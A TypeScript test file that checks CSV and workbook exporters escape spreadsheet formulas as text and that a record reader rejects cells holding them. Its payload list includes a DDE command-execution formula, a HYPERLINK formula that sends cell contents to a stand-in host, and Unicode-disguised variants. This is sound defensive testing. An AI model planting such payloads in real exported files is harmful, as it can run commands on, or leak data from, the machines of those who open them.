import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { mayRunInSpreadsheet } from '$lib/domain/spreadsheet-text';
import { changesCsv, problemsCsv, setAsideCsv } from '$lib/export/changes';
import { csvFile } from '$lib/export/csv';
import { workbookText } from '$lib/export/workbook';
import type { CellChange } from '$lib/domain/review';
import type { Problem } from '$lib/domain/problem';
import { readRegister, REGISTER_TABLES } from '$lib/intake/record';
import { readFileSync } from 'node:fs';
import { anyText } from './texts';

const formulas = [
	'=1+1',
	"=cmd|'/C calc'!A0",
	'=HYPERLINK("https://example.org/?"&A1,"see")',
	'+1+cmd|x',
	'-1+cmd|x',
	'-2+3',
	'@SUM(A1:A9)',
	' =1+1',
	'\u00A0=1+1',
	'\uFEFF=1+1',
	'\u200B=1+1',
	'\u0000=1+1',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'＝1+1',
	'＋1',
	'－1+1',
	'＠SUM(A1)',
	'=1\n+1',
	'=","&A1'
];
const negatives = ['-5', '-0.3', '-1234.50', '0', '12', '9.0'];

const cellsOf = (csv: string) =>
	Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), {
		delimiter: ',',
		dynamicTyping: false,
		skipEmptyLines: true
	}).data;
const runs = (cell: string) => mayRunInSpreadsheet(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell);

const problem = (message: string): Problem => ({
	file: message,
	row: 1,
	column: message,
	rule: 'value.range',
	severity: 'error',
	message
});
const change = (text: string) =>
	({
		kind: 'revised',
		indicator: text,
		name: text,
		geography: text,
		place: text,
		period: text,
		old_value: -1.5,
		old_decimals: 1,
		old_symbol: text,
		old_vintage: text,
		new_value: -2,
		new_symbol: text,
		difference: -0.5,
		within_rounding: null,
		source_row: 3
	}) as unknown as CellChange;

/** Every way a text of a file or a record comes to stand in a CSV file of ours. */
const exporters: Readonly<Record<string, (text: string) => string>> = {
	'any rows': (text) => csvFile([[text, 'x', text]]),
	'rows set aside': (text) => setAsideCsv([{ row: 1, cells: [text] }], [problem(text)]),
	'problems found': (text) => problemsCsv([problem(text)]),
	'cells changed': (text) => changesCsv([change(text)])
};

describe.each(Object.entries(exporters))('%s as CSV', (_, write) => {
	it.each(formulas)('hold the formula %j as text', (formula) => {
		const cells = cellsOf(write(formula)).flat();
		expect(cells.filter(runs)).toEqual([]);
		expect(cells.some((cell) => cell.startsWith("'"))).toBe(true);
	});

	it('hold no formula whatever the text', () => {
		fc.assert(
			fc.property(anyText, fc.constantFrom('', '=', '+', '-', '@', '\t', ' ='), (text, before) => {
				expect(
					cellsOf(write(before + text))
						.flat()
						.filter(runs)
				).toEqual([]);
			})
		);
	});
});

it('true negative numbers stay numbers', () => {
	expect(cellsOf(csvFile([negatives]))[0]).toEqual(negatives);
	expect(cellsOf(changesCsv([change('x')]))[1]).toEqual(expect.arrayContaining(['-1.5', '-0.5']));
	expect(negatives.map(workbookText)).toEqual(negatives);
});

it.each(formulas)('a workbook holds %j as text that stays text when it is edited', (formula) => {
	expect(workbookText(formula)).toBe(`'${formula}`);
});

describe('a record with a formula in a text', () => {
	const record = () =>
		new Map(REGISTER_TABLES.map((table) => [table, readFileSync(`data/${table}.csv`, 'utf8')]));

	it.each(formulas.filter((formula) => !/^[\t\r\n]/.test(formula) && formula.trim() === formula))(
		'is not taken as sound, because its files can be opened in a spreadsheet: %j',
		(formula) => {
			const tables = record();
			const quoted = `"${formula.replaceAll('"', '""')}"`;
			tables.set('events', `${tables.get('events')}hostile,2020-01-01,,local,${quoted},x,,,x\n`);
			const { problems, register } = readRegister(tables);
			expect(problems).toMatchObject([
				{ file: 'events.csv', column: 'title', rule: 'record.cell' }
			]);
			expect(register.events.some(({ event }) => event === 'hostile')).toBe(false);
		}
	);

	it('is sound with negative numbers and marks', () => {
		const { problems } = readRegister(record());
		expect(problems).toEqual([]);
	});
});
